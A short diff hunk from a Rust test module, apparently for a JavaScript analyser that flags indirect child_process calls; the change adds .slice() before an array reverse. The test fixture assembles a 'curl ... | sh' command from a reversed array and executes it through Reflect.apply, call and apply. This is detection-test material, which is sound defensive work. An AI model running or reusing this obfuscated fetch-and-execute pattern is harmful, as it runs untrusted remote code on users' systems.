@@ -69,7 +69,7 @@ mod tests {
     fn call_helpers_render_as_the_function_they_run() {
         let found = javascript(concat!(
             "const cp = require('child_process');\n",
-            "const line = ['sh', '|', 'http://203.0.113.7/x', 'curl'].reverse().join(' ');\n",
+            "const line = ['sh', '|', 'http://203.0.113.7/x', 'curl'].slice().reverse().join(' ');\n",
             "Reflect.apply(cp.exec, cp, [line, () => {}]);\n",
             "cp.execSync.call(null, line);\n",
             "cp.spawn.apply(cp, ['sh', ['-c', line]]);\n",
